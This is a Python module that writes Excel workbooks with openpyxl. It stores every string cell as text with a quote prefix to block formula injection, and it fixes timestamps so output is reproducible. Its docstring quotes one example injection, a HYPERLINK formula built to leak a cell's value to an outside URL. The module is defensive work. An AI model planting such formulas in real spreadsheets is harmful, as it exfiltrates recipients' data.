"""Excel workbooks the program writes: text stays text, and the same content gives the same bytes.

Text read from other people's workbooks (a commune's `=HYPERLINK("http://…?leak="&B2,"Xem")`) must
never become a live formula in a workbook sent upward. openpyxl turns any string starting with `=`
into a formula; here every string cell is typed as a string and marked with Excel's quote prefix
(the `'` a clerk types), so Excel shows it as text and keeps it text when the cell is edited
(OWASP, CSV injection). Zip members and `docProps/core.xml` carry the document's own time, not
the clock's, like the DOCX.
"""

from __future__ import annotations

import io
import re
import zipfile
from datetime import datetime

from .package import deflate, zip_bytes

_FORMULA_LIKE = ("=", "+", "-", "@", "\t", "\r", "\n")
_MODIFIED = re.compile(rb"(<dcterms:modified[^>]*>)[^<]*(</dcterms:modified>)")
_SURROGATES = re.compile("[\ud800-\udfff]")
_CREATED = re.compile(rb"(<dcterms:created[^>]*>)[^<]*(</dcterms:created>)")


def row_of(ws, values: list) -> list:
    """The cells of one row, every string written as text, never as a formula; not yet in `ws`.

    The workbooks are written streaming (openpyxl's write-only mode: memory does not grow with the
    rows), so a row is styled first and then `ws.append`ed.
    """
    from openpyxl.cell.cell import Cell

    cells = []
    for value in values:
        cell = Cell(ws, row=1, column=1, value=_storable(value) if isinstance(value, str) else value)
        if isinstance(cell.value, str) and cell.value:
            set_text(cell, cell.value)
        cells.append(cell)
    return cells


class StyleCopier:
    """Applies a font, alignment, fill or number format to many cells at the price of one.

    openpyxl looks every assigned style up among the workbook's styles (hashing and comparing it),
    which cost seconds over a thousand units' columns. Here a style is assigned once, to a first
    cell, and its index is copied to the others, as openpyxl's own worksheet copy copies indexes.
    A cell's own quote prefix (set_text) is kept.
    """

    _FIELDS = {"font": "fontId", "alignment": "alignmentId", "fill": "fillId", "number_format": "numFmtId"}

    def __init__(self, **styles):
        self.styles = styles
        self.first = None

    def apply(self, cells) -> None:
        from openpyxl.styles.cell_style import StyleArray

        for cell in cells:
            if self.first is None:
                for name, style in self.styles.items():
                    setattr(cell, name, style)
                self.first = cell
                continue
            if cell._style is None:  # a cell never styled has no style array yet
                cell._style = StyleArray()
            for name in self.styles:
                field = self._FIELDS[name]
                setattr(cell._style, field, getattr(self.first._style, field))


def _storable(text: str) -> str:
    """Without the characters XML (and so openpyxl) refuses, and without lone surrogates."""
    from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

    return _SURROGATES.sub("", ILLEGAL_CHARACTERS_RE.sub("", text))


def set_text(cell, text: str) -> None:
    cell.value = text
    cell.data_type = "s"
    if text.startswith(_FORMULA_LIKE):
        cell.quotePrefix = True


def workbook_bytes(wb, stamp: datetime) -> bytes:
    """The workbook as a zip whose bytes depend only on its content and `stamp`."""
    wb.properties.created = wb.properties.modified = stamp
    buffer = io.BytesIO()
    wb.save(buffer)
    fixed = stamp.strftime("%Y-%m-%dT%H:%M:%SZ").encode()
    entries = []
    with zipfile.ZipFile(io.BytesIO(buffer.getvalue())) as zf:
        for info in zf.infolist():
            data = zf.read(info)
            if info.filename == "docProps/core.xml":  # openpyxl stamps `modified` with the clock at save
                data = _MODIFIED.sub(rb"\g<1>" + fixed + rb"\g<2>", data)
                data = _CREATED.sub(rb"\g<1>" + fixed + rb"\g<2>", data)
            entries.append(deflate(info.filename, data))
    return zip_bytes(entries, stamp)
